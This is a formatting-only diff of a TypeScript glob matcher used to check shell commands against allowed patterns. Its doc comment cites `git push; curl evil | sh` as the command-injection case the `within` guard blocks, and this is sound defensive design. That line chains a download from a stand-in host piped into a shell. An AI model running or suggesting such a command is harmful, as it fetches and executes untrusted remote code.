@@ -5,12 +5,18 @@
  * With `within`, a star may not swallow a character for which it answers false: so that a yes to `git push *`
  * is no yes to `git push; curl evil | sh`.
  */
-export function glob(pattern: string, text: string, within: (char: string) => boolean = () => true): boolean {
+export function glob(
+  pattern: string,
+  text: string,
+  within: (char: string) => boolean = () => true,
+): boolean {
   return matches(remembered(pattern), text, within)
 }
 
 /** The same for one pattern and many texts. */
-export function globOf(pattern: string): (text: string, within?: (char: string) => boolean) => boolean {
+export function globOf(
+  pattern: string,
+): (text: string, within?: (char: string) => boolean) => boolean {
   const parts = compile(pattern)
   return (text, within = () => true) => matches(parts, text, within)
 }
@@ -23,8 +29,16 @@ function matches(parts: readonly Part[], text: string, within: (char: string) =>
   while (t < text.length) {
     const want = parts[p]
     const char = text[t] as string
-    if (want === ANY) { star = p++; from = t; continue }
-    if (want !== undefined && (want === char || (want === ONE && within(char)))) { p++; t++; continue }
+    if (want === ANY) {
+      star = p++
+      from = t
+      continue
+    }
+    if (want !== undefined && (want === char || (want === ONE && within(char)))) {
+      p++
+      t++
+      continue
+    }
     if (star < 0 || !within(text[from] as string)) return false
     p = star + 1
     t = ++from
